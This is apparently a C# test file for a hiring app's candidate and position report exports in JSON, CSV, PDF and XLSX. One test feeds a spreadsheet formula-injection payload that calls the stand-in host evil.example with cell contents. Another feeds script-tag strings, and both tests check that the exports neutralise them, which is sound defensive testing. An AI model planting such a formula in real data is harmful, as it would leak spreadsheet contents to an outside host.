using System.Globalization;
using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;
using PeerInterview.Tests.Infrastructure;
using PeerInterview.Web.Domain;

namespace PeerInterview.Tests.Reports;

/// <summary>
/// GET /api/v1/candidates/{id}/report (JSON, CSV, PDF) and /api/v1/positions/{id}/report|export (JSON, CSV, XLSX),
/// over candidates whose panels scored and submitted through the scorecard API.
/// </summary>
public class ExportApiTests
{
    // DESIGN.md's worked example: items i1, i2 (D5), i3 (D7), i4 (D1); A 4,3,4,5; B 3,not observed,5,4.
    private static readonly string[] WorkedKit = ["D5", "D5", "D7", "D1"];
    private static readonly int?[] WorkedA = [4, 3, 4, 5];
    private static readonly int?[] WorkedB = [3, null, 5, 4];

    private static async Task<(ReportSetup Setup, ReportKit Kit, int PositionId, int CandidateId)> WorkedExampleAsync(TestApp app, string name = "Sam Rivera")
    {
        var setup = await ReportSetup.StartAsync(app);
        var kit = await setup.KitAsync(WorkedKit);
        var position = await setup.PositionAsync(kit);
        var candidate = await setup.CandidateAsync(position, kit, name, WorkedA, WorkedB);
        return (setup, kit, position, candidate);
    }

    [Fact]
    public async Task CandidateReport_WorkedExample_JsonExplainsTheBandWithEveryRatersEvidence()
    {
        using var app = new TestApp();
        var (_, kit, _, candidate) = await WorkedExampleAsync(app);
        var hr = await app.ApiClientAsAsync(Roles.HR);

        var response = await hr.GetAsync($"/api/v1/candidates/{candidate}/report");
        var report = await Json.ReadAsync(response);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("application/json", response.Content.Headers.ContentType?.MediaType);
        Assert.Equal("no-store", response.Headers.CacheControl?.ToString());
        Assert.Equal("Recommend", report.GetProperty("band").GetString());
        Assert.Equal("Recommend", report.GetProperty("bandText").GetString());
        Assert.Equal("Recommend: overall 4.08 is below 4.2", report.GetProperty("reason").GetString());
        Assert.Equal(4.083, report.GetProperty("overall").GetDouble(), 3);
        Assert.Equal(4.2, report.GetProperty("confidence").GetProperty("nearCutOff").GetDouble());
        Assert.Equal(2, report.GetProperty("confidence").GetProperty("raters").GetInt32());
        Assert.Equal(["D1", "D5", "D7"], report.GetProperty("competencies").EnumerateArray().Select(c => c.GetProperty("code").GetString()));
        var d5 = report.GetProperty("competencies").EnumerateArray().Single(c => c.GetProperty("code").GetString() == "D5");
        Assert.Equal(3.25, d5.GetProperty("score").GetDouble(), 3);
        Assert.Equal(0.94, d5.GetProperty("agreement").GetDouble(), 2);
        Assert.True(d5.GetProperty("isHurdle").GetBoolean());

        var questions = report.GetProperty("questions").EnumerateArray().ToList();
        Assert.Equal(kit.Items, questions.Select(q => q.GetProperty("kitItemId").GetInt32()));
        Assert.Equal([3.5, 3.0, 4.5, 4.5], questions.Select(q => q.GetProperty("score").GetDouble()));
        var second = questions[1].GetProperty("ratings").EnumerateArray().ToList();
        Assert.Equal(["Indy Interviewer", "Jordan Interviewer"], second.Select(r => r.GetProperty("raterName").GetString()));
        Assert.Equal(3, second[0].GetProperty("value").GetInt32());
        Assert.Equal(JsonValueKind.Null, second[1].GetProperty("value").ValueKind);
        Assert.True(second[1].GetProperty("notObserved").GetBoolean());
        Assert.Equal("B saw item 2", second[1].GetProperty("evidence").GetString());

        Assert.Equal("Report kit", report.GetProperty("interview").GetProperty("kitName").GetString());
        Assert.Equal(3, report.GetProperty("interview").GetProperty("kitVersion").GetInt32());
        Assert.All(report.GetProperty("panel").EnumerateArray(), p =>
        {
            Assert.Equal("Submitted", p.GetProperty("state").GetString());
            Assert.Equal("Yes", p.GetProperty("recommendation").GetString());
        });
    }

    public static TheoryData<string, HttpStatusCode> RoleAccess => new()
    {
        { Roles.Admin, HttpStatusCode.OK },
        { Roles.HiringManager, HttpStatusCode.OK },
        { Roles.HR, HttpStatusCode.OK },
        { Roles.Interviewer, HttpStatusCode.Forbidden },
        { "", HttpStatusCode.Unauthorized },
    };

    [Theory]
    [MemberData(nameof(RoleAccess))]
    public async Task Reports_AreForAdminsHiringManagersAndHrOnly(string role, HttpStatusCode expected)
    {
        using var app = new TestApp();
        var (_, _, position, candidate) = await WorkedExampleAsync(app);
        var client = role.Length == 0 ? app.CreateClient() : await app.ApiClientAsAsync(role);

        foreach (var url in new[]
        {
            $"/api/v1/candidates/{candidate}/report",
            $"/api/v1/candidates/{candidate}/report?format=csv",
            $"/api/v1/candidates/{candidate}/report?format=pdf",
            $"/api/v1/positions/{position}/report",
            $"/api/v1/positions/{position}/export?format=csv",
            $"/api/v1/positions/{position}/export?format=xlsx",
        })
        {
            var response = await client.GetAsync(url);
            Assert.True(response.StatusCode == expected, $"{role} GET {url}: {(int)response.StatusCode}");
        }
    }

    [Fact]
    public async Task DraftScorecard_NeverAppearsInAnyFormat()
    {
        using var app = new TestApp();
        var setup = await ReportSetup.StartAsync(app);
        var kit = await setup.KitAsync("D1", "D5", "D7");
        var position = await setup.PositionAsync(kit);
        var candidate = await setup.CandidateAsync(position, kit, "Robin Draft", [4, 4, 4], [2, 2, 2], submitB: false, evidenceB: "DRAFTSECRET");
        var hr = await app.ApiClientAsAsync(Roles.HR);

        var json = await (await hr.GetAsync($"/api/v1/candidates/{candidate}/report")).Content.ReadAsStringAsync();
        var csv = await hr.GetByteArrayAsync($"/api/v1/candidates/{candidate}/report?format=csv");
        var pdf = PdfText.Flow(await hr.GetByteArrayAsync($"/api/v1/candidates/{candidate}/report?format=pdf"));
        var positionJson = await (await hr.GetAsync($"/api/v1/positions/{position}/report")).Content.ReadAsStringAsync();
        var positionCsv = Encoding.UTF8.GetString(await hr.GetByteArrayAsync($"/api/v1/positions/{position}/export?format=csv"));
        var xlsx = Xlsx.Read(await hr.GetByteArrayAsync($"/api/v1/positions/{position}/export?format=xlsx"));

        foreach (var text in new[] { json, Encoding.UTF8.GetString(csv), pdf, positionJson, positionCsv, string.Join("|", xlsx.Values.Select(v => v.Text)) })
        {
            Assert.DoesNotContain("DRAFTSECRET", text, StringComparison.Ordinal);
        }

        var report = JsonDocument.Parse(json).RootElement;
        Assert.Equal("Incomplete", report.GetProperty("band").GetString());
        Assert.All(report.GetProperty("questions").EnumerateArray(), q =>
        {
            Assert.Equal(4, q.GetProperty("score").GetDouble());
            Assert.Equal(1, q.GetProperty("ratings").GetArrayLength());
        });
        var rows = Csv.Parse(csv);
        Assert.DoesNotContain(rows[0], h => h.StartsWith("Jordan Interviewer", StringComparison.Ordinal));
        Assert.All(rows.Skip(1), r => Assert.DoesNotContain("2", r[rows[0].IndexOf("Indy Interviewer: rating")]));
        var draft = report.GetProperty("panel").EnumerateArray().Single(p => p.GetProperty("name").GetString() == "Jordan Interviewer");
        Assert.Equal("Draft", draft.GetProperty("state").GetString());
        Assert.Equal(JsonValueKind.Null, draft.GetProperty("recommendation").ValueKind);
        Assert.Contains("not submitted (not counted)", pdf, StringComparison.Ordinal);
    }

    [Fact]
    public async Task PositionCsv_HasOneParsableRowPerCandidateIncludingIncompleteOnes()
    {
        using var app = new TestApp();
        var (setup, kit, position, _) = await WorkedExampleAsync(app, "Sam Rivera");
        await setup.CandidateAsync(position, kit, "Alex Incomplete", [3, 3, 3, 3], null);
        var hr = await app.ApiClientAsAsync(Roles.HR);

        var response = await hr.GetAsync($"/api/v1/positions/{position}/export?format=csv");
        var rows = Csv.Parse(await response.Content.ReadAsByteArrayAsync());

        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        Assert.Equal("attachment", response.Content.Headers.ContentDisposition?.DispositionType);
        Assert.Matches(@"^position-\d+-peer-support-specialist-\d{8}\.csv$", response.Content.Headers.ContentDisposition?.FileName?.Trim('"'));
        Assert.Equal("no-store", response.Headers.CacheControl?.ToString());
        Assert.Equal(
            ["candidate id", "name", "position", "stage", "band", "overall", "D1 Engagement & support", "D5 Crisis & safety",
             "D7 Ethics, boundaries, advocacy & growth", "concerns", "knock-outs confirmed", "knock-outs pending", "raters", "coverage",
             "first submitted (UTC)", "last submitted (UTC)", "needs review", "interview (UTC)", "kit", "band reason"],
            rows[0]);
        Assert.Equal(3, rows.Count);

        var alex = Csv.Row(rows, 1);
        var sam = Csv.Row(rows, 2);
        Assert.Equal("Alex Incomplete", alex["name"]);
        Assert.Equal("Incomplete", alex["band"]);
        Assert.Equal("", alex["overall"]);
        Assert.Equal("", alex["D5 Crisis & safety"]);
        Assert.Equal("", alex["D1 Engagement & support"]);
        Assert.Equal("1", alex["raters"]);
        Assert.StartsWith("Incomplete: only 1 scorecard has been submitted", alex["band reason"], StringComparison.Ordinal);

        Assert.Equal("Sam Rivera", sam["name"]);
        Assert.Equal("Peer Support Specialist", sam["position"]);
        Assert.Equal("interviewing", sam["stage"]);
        Assert.Equal("Recommend", sam["band"]);
        Assert.Equal("4.08", sam["overall"]);
        Assert.Equal("4.50", sam["D1 Engagement & support"]);
        Assert.Equal("3.25", sam["D5 Crisis & safety"]);
        Assert.Equal("4.50", sam["D7 Ethics, boundaries, advocacy & growth"]);
        Assert.Equal("0", sam["concerns"]);
        Assert.Equal("2", sam["raters"]);
        Assert.Equal("0.75", sam["coverage"]);
        Assert.Equal("no", sam["needs review"]);
        Assert.Equal("Report kit v3", sam["kit"]);
        Assert.Equal("Recommend: overall 4.08 is below 4.2.", sam["band reason"]);
        var first = DateTime.ParseExact(sam["first submitted (UTC)"], "yyyy-MM-dd HH:mm", CultureInfo.InvariantCulture);
        Assert.InRange(first, DateTime.UtcNow.AddMinutes(-5), DateTime.UtcNow.AddMinutes(1));
    }

    [Fact]
    public async Task PositionXlsx_OpensWithNumbersAsNumbersAndDatesAsDates()
    {
        using var app = new TestApp();
        var (setup, kit, position, candidate) = await WorkedExampleAsync(app);
        await setup.CandidateAsync(position, kit, "Alex Incomplete", [3, 3, 3, 3], null);
        var hr = await app.ApiClientAsAsync(Roles.HR);

        var response = await hr.GetAsync($"/api/v1/positions/{position}/export?format=xlsx");
        var cells = Xlsx.Read(await response.Content.ReadAsByteArrayAsync());
        var col = Xlsx.Columns(cells);

        Assert.Equal("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", response.Content.Headers.ContentType?.MediaType);
        Assert.EndsWith(".xlsx", response.Content.Headers.ContentDisposition?.FileName?.Trim('"'), StringComparison.Ordinal);
        Assert.Equal("Sam Rivera", cells[col["name"] + "3"].Text);
        Assert.Equal(candidate, cells[col["candidate id"] + "3"].Number);
        Assert.Equal(4.0833, cells[col["overall"] + "3"].Number!.Value, 4);
        Assert.Equal("0.00", cells[col["overall"] + "3"].NumberFormat);
        Assert.Equal(3.25, cells[col["D5 Crisis & safety"] + "3"].Number);
        Assert.Equal("0%", cells[col["coverage"] + "3"].NumberFormat);
        Assert.Equal(0.75, cells[col["coverage"] + "3"].Number);
        var submitted = cells[col["last submitted (UTC)"] + "3"];
        Assert.Equal("yyyy-mm-dd hh:mm", submitted.NumberFormat);
        Assert.InRange(DateTime.FromOADate(submitted.Number!.Value), DateTime.UtcNow.AddMinutes(-5), DateTime.UtcNow.AddMinutes(1));
        Assert.Equal("Incomplete", cells[col["band"] + "2"].Text);
        Assert.False(cells.ContainsKey(col["overall"] + "2"), "an incomplete candidate's overall is empty");
    }

    [Fact]
    public async Task CandidatePdf_PageOneSummarisesNameBandReasonChartAndPanel()
    {
        using var app = new TestApp();
        var (_, _, _, candidate) = await WorkedExampleAsync(app);
        var hr = await app.ApiClientAsAsync(Roles.HR);

        var response = await hr.GetAsync($"/api/v1/candidates/{candidate}/report?format=pdf");
        var bytes = await response.Content.ReadAsByteArrayAsync();
        var text = PdfText.Flow(bytes);

        Assert.Equal("application/pdf", response.Content.Headers.ContentType?.MediaType);
        Assert.StartsWith("%PDF-", Encoding.ASCII.GetString(bytes, 0, 5), StringComparison.Ordinal);
        var pages = PdfText.Pages(bytes);
        var first = string.Join(" ", pages[0].Split((char[]?)null, StringSplitOptions.RemoveEmptyEntries));
        Assert.Contains("Sam Rivera", first, StringComparison.Ordinal);
        Assert.Contains("BAND Recommend", first, StringComparison.Ordinal);
        Assert.Contains("Recommend: overall 4.08 is below 4.2", first, StringComparison.Ordinal);
        Assert.Contains("Overall (weighted)", first, StringComparison.Ordinal);
        Assert.Contains("a rater's own mean", first, StringComparison.Ordinal);
        Assert.Contains($"Page 1 of {pages.Count}", first, StringComparison.Ordinal);
        Assert.Contains("A saw item 1", text, StringComparison.Ordinal);
        Assert.Contains("Recommend: overall 4.08 is below 4.2", text, StringComparison.Ordinal);
        Assert.Contains("Report kit, version 3", text, StringComparison.Ordinal);
        Assert.Contains("D5 Crisis & safety", text, StringComparison.Ordinal);
        Assert.Contains("near the 4.2 cut-off", text, StringComparison.Ordinal);
        Assert.Contains("Indy Interviewer", text, StringComparison.Ordinal);
        Assert.Contains("Jordan Interviewer", text, StringComparison.Ordinal);
        Assert.Contains("Generated at", text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task CandidatePdf_ForATwentyItemKit_KeepsTheSummaryOnPageOne_AndNumbersTheDetailPages()
    {
        using var app = new TestApp();
        var setup = await ReportSetup.StartAsync(app);
        string[] codes = ["D1", "D2", "D3", "D4", "D5", "D6", "D7", "D1", "D2", "D3", "D4", "D5", "D6", "D7", "D1", "D2", "D3", "D4", "D5", "D7"];
        var kit = await setup.KitAsync(codes);
        var position = await setup.PositionAsync(kit);
        var candidate = await setup.CandidateAsync(position, kit, "Casey Long", [.. codes.Select((_, i) => (int?)(i % 5 == 0 ? 2 : 4))], [.. codes.Select((_, i) => (int?)(i % 5 == 0 ? 4 : 3))]);
        var hr = await app.ApiClientAsAsync(Roles.HR);

        var bytes = await hr.GetByteArrayAsync($"/api/v1/candidates/{candidate}/report?format=pdf");

        var pages = PdfText.Pages(bytes);
        Assert.True(pages.Count > 1);
        Assert.Contains("Casey Long", pages[0], StringComparison.Ordinal);
        Assert.Contains("Panel", pages[0], StringComparison.Ordinal);
        Assert.Contains($"Page {pages.Count} of {pages.Count}", pages[^1], StringComparison.Ordinal);
        Assert.Contains("DISCUSS", PdfText.Flow(bytes), StringComparison.Ordinal);
        Assert.Contains("20.", PdfText.Flow(bytes), StringComparison.Ordinal);
    }

    [Fact]
    public async Task CandidateCsv_HasOneRowPerKitItemWithEachRatersRating()
    {
        using var app = new TestApp();
        var (_, _, _, candidate) = await WorkedExampleAsync(app);
        var hr = await app.ApiClientAsAsync(Roles.HR);

        var rows = Csv.Parse(await hr.GetByteArrayAsync($"/api/v1/candidates/{candidate}/report?format=csv"));

        Assert.Equal(
            ["item", "question", "competency", "hurdle", "question score", "ratings", "spread", "discuss",
             "Indy Interviewer: rating", "Indy Interviewer: evidence", "Indy Interviewer: changed after seeing panel",
             "Jordan Interviewer: rating", "Jordan Interviewer: evidence", "Jordan Interviewer: changed after seeing panel"],
            rows[0]);
        Assert.Equal(5, rows.Count);
        var second = Csv.Row(rows, 2);
        Assert.Equal("2", second["item"]);
        Assert.Equal("D5 Crisis & safety", second["competency"]);
        Assert.Equal("yes", second["hurdle"]);
        Assert.Equal("3.00", second["question score"]);
        Assert.Equal("1", second["ratings"]);
        Assert.Equal("", second["spread"]);
        Assert.Equal("3", second["Indy Interviewer: rating"]);
        Assert.Equal("not observed", second["Jordan Interviewer: rating"]);
        Assert.Equal("B saw item 2", second["Jordan Interviewer: evidence"]);
        Assert.Equal("no", second["Jordan Interviewer: changed after seeing panel"]);
        var first = Csv.Row(rows, 1);
        Assert.Equal("3.50", first["question score"]);
        Assert.Equal("1", first["spread"]);
        Assert.Equal("no", first["discuss"]);
        Assert.False(string.IsNullOrWhiteSpace(first["question"]));
    }

    [Theory]
    [InlineData("text/csv", "text/csv")]
    [InlineData("application/pdf", "application/pdf")]
    [InlineData("application/json", "application/json")]
    [InlineData("*/*", "application/json")]
    [InlineData("text/html, text/csv;q=0.9, application/pdf;q=0.5", "text/csv")]
    public async Task CandidateReport_AcceptHeaderPicksTheFormat(string accept, string expected)
    {
        using var app = new TestApp();
        var (_, _, _, candidate) = await WorkedExampleAsync(app);
        var hr = await app.ApiClientAsAsync(Roles.HR);
        using var request = new HttpRequestMessage(HttpMethod.Get, $"/api/v1/candidates/{candidate}/report");
        request.Headers.Accept.ParseAdd(accept);

        var response = await hr.SendAsync(request);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal(expected, response.Content.Headers.ContentType?.MediaType);
    }

    [Fact]
    public async Task CandidateReport_QueryWinsOverAccept_UnknownFormatIs400_UnknownCandidateIs404()
    {
        using var app = new TestApp();
        var (_, _, position, candidate) = await WorkedExampleAsync(app);
        var hr = await app.ApiClientAsAsync(Roles.HR);
        using var request = new HttpRequestMessage(HttpMethod.Get, $"/api/v1/candidates/{candidate}/report?format=csv");
        request.Headers.Accept.Add(new MediaTypeWithQualityHeaderValue("application/pdf"));

        var wins = await hr.SendAsync(request);
        var unknown = await hr.GetAsync($"/api/v1/candidates/{candidate}/report?format=docx");
        var unknownExport = await hr.GetAsync($"/api/v1/positions/{position}/export?format=docx");
        var missing = await hr.GetAsync("/api/v1/candidates/999999/report");
        var missingPosition = await hr.GetAsync("/api/v1/positions/999999/export?format=csv");
        using var png = new HttpRequestMessage(HttpMethod.Get, $"/api/v1/candidates/{candidate}/report");
        png.Headers.Accept.ParseAdd("image/png");
        var notAcceptable = await hr.SendAsync(png);

        Assert.Equal("text/csv", wins.Content.Headers.ContentType?.MediaType);
        var problem = await Scoring.ScoringSetup.ProblemAsync(unknown, HttpStatusCode.BadRequest);
        Assert.Equal(["json", "csv", "pdf"], problem.GetProperty("validFormats").EnumerateArray().Select(f => f.GetString()));
        Assert.Contains("json, csv, pdf", problem.GetProperty("detail").GetString(), StringComparison.Ordinal);
        var exportProblem = await Scoring.ScoringSetup.ProblemAsync(unknownExport, HttpStatusCode.BadRequest);
        Assert.Equal(["csv", "xlsx", "pdf"], exportProblem.GetProperty("validFormats").EnumerateArray().Select(f => f.GetString()));
        await Scoring.ScoringSetup.ProblemAsync(missing, HttpStatusCode.NotFound);
        await Scoring.ScoringSetup.ProblemAsync(missingPosition, HttpStatusCode.NotFound);
        await Scoring.ScoringSetup.ProblemAsync(notAcceptable, HttpStatusCode.NotAcceptable);
    }

    [Fact]
    public async Task PositionReport_JsonListsEveryCandidateWithCompetencyColumns()
    {
        using var app = new TestApp();
        var (setup, kit, position, candidate) = await WorkedExampleAsync(app);
        await setup.CandidateAsync(position, kit, "Alex Incomplete", [3, 3, 3, 3], null);
        var hr = await app.ApiClientAsAsync(Roles.HR);

        var view = await hr.GetJsonAsync($"/api/v1/positions/{position}/report");

        Assert.Equal(position, view.GetProperty("positionId").GetInt32());
        Assert.Equal(["D1", "D5", "D7"], view.GetProperty("competencies").EnumerateArray().Select(c => c.GetProperty("code").GetString()));
        var rows = view.GetProperty("candidates").EnumerateArray().ToList();
        Assert.Equal(["Alex Incomplete", "Sam Rivera"], rows.Select(r => r.GetProperty("name").GetString()));
        Assert.Equal("Incomplete", rows[0].GetProperty("band").GetString());
        Assert.Equal(candidate, rows[1].GetProperty("candidateId").GetInt32());
        Assert.Equal("Recommend", rows[1].GetProperty("band").GetString());
        Assert.Equal([4.5, 3.25, 4.5], rows[1].GetProperty("scores").EnumerateArray().Select(s => s.GetProperty("score").GetDouble()));
        Assert.False(rows[1].TryGetProperty("rank", out _));
    }

    [Fact]
    public async Task Exports_GuardAgainstFormulaInjection()
    {
        using var app = new TestApp();
        const string Evil = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";
        var (_, _, position, candidate) = await WorkedExampleAsync(app, Evil);
        var hr = await app.ApiClientAsAsync(Roles.HR);

        var rows = Csv.Parse(await hr.GetByteArrayAsync($"/api/v1/positions/{position}/export?format=csv"));
        var cells = Xlsx.Read(await hr.GetByteArrayAsync($"/api/v1/positions/{position}/export?format=xlsx"));
        var json = await hr.GetJsonAsync($"/api/v1/candidates/{candidate}/report");

        Assert.Equal("'" + Evil, Csv.Row(rows, 1)["name"]);
        Assert.Equal("'" + Evil, cells[Xlsx.Columns(cells)["name"] + "2"].Text);
        Assert.Equal(Evil, json.GetProperty("name").GetString());
    }

    [Fact]
    public async Task Exports_CarryScriptTagsAsPlainText()
    {
        using var app = new TestApp();
        const string Name = "<script>alert('n')</script> Lee";
        var setup = await ReportSetup.StartAsync(app);
        var kit = await setup.KitAsync(WorkedKit);
        var position = await setup.PositionAsync(kit);
        var candidate = await setup.CandidateAsync(position, kit, Name, WorkedA, WorkedB, evidenceA: "<script>alert('e')</script>");
        var hr = await app.ApiClientAsAsync(Roles.HR);

        var jsonResponse = await hr.GetAsync($"/api/v1/candidates/{candidate}/report");
        var json = await Json.ReadAsync(jsonResponse);
        var csv = Csv.Parse(await hr.GetByteArrayAsync($"/api/v1/candidates/{candidate}/report?format=csv"));
        var positionCsv = Csv.Parse(await hr.GetByteArrayAsync($"/api/v1/positions/{position}/export?format=csv"));
        var cells = Xlsx.Read(await hr.GetByteArrayAsync($"/api/v1/positions/{position}/export?format=xlsx"));
        var pdf = PdfText.Flow(await hr.GetByteArrayAsync($"/api/v1/candidates/{candidate}/report?format=pdf"));

        Assert.Equal("application/json", jsonResponse.Content.Headers.ContentType?.MediaType);
        Assert.Equal(Name, json.GetProperty("name").GetString());
        Assert.Equal("<script>alert('e')</script> item 1", Csv.Row(csv, 1)["Indy Interviewer: evidence"]);
        Assert.Equal(Name, Csv.Row(positionCsv, 1)["name"]);
        Assert.Equal(Name, cells[Xlsx.Columns(cells)["name"] + "2"].Text);
        Assert.Contains(Name, pdf, StringComparison.Ordinal);
    }

    [Fact]
    public async Task EveryReportRead_IsAuditedWithoutTheCandidatesName()
    {
        using var app = new TestApp();
        var (_, _, position, candidate) = await WorkedExampleAsync(app, "Quinn Uniquename");
        var hr = await app.ApiClientAsAsync(Roles.HR);
        var hrId = await TestData.UserIdForRoleAsync(app, Roles.HR);
        var before = DateTimeOffset.UtcNow.AddSeconds(-1);

        foreach (var url in new[]
        {
            $"/api/v1/candidates/{candidate}/report",
            $"/api/v1/candidates/{candidate}/report?format=csv",
            $"/api/v1/candidates/{candidate}/report?format=pdf",
            $"/api/v1/positions/{position}/report",
            $"/api/v1/positions/{position}/export?format=csv",
            $"/api/v1/positions/{position}/export?format=xlsx",
        })
        {
            (await hr.GetAsync(url)).EnsureSuccessStatusCode();
        }

        var entries = app.WithScope(db => db.AuditEntries.Where(a => a.UserId == hrId).OrderBy(a => a.Id).ToList());
        Assert.Equal(
            [("candidate.report", "Candidate", $"{candidate}", "json"), ("candidate.report", "Candidate", $"{candidate}", "csv"),
             ("candidate.report", "Candidate", $"{candidate}", "pdf"), ("position.report", "Position", $"{position}", "json"),
             ("position.export", "Position", $"{position}", "csv"), ("position.export", "Position", $"{position}", "xlsx")],
            entries.Select(e => (e.Action, e.EntityType, e.EntityId, JsonDocument.Parse(e.After!).RootElement.GetProperty("Format").GetString())));
        Assert.All(entries, e =>
        {
            Assert.True(e.At >= before);
            Assert.DoesNotContain("Uniquename", $"{e.Before}{e.After}{e.EntityId}", StringComparison.Ordinal);
        });
    }
}
